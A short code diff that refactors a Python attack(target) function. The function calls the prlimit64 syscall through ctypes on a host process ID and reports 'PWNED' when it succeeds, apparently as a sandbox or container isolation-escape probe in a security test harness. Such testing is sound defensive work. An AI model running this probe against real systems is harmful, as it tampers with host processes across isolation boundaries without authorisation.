@@ -16,7 +16,8 @@ def attack(target):
     import resource
     import struct
     limits = ctypes.create_string_buffer(struct.pack("QQ", *resource.getrlimit(4)))
-    result = libc.syscall(*map(ctypes.c_long, (number, target["host_pid"], 4, ctypes.addressof(limits), 0)))
+    arguments = (target["host_pid"], 4, ctypes.addressof(limits), 0)
+    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
     if result < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return f"PWNED: prlimit64 returned {result}"
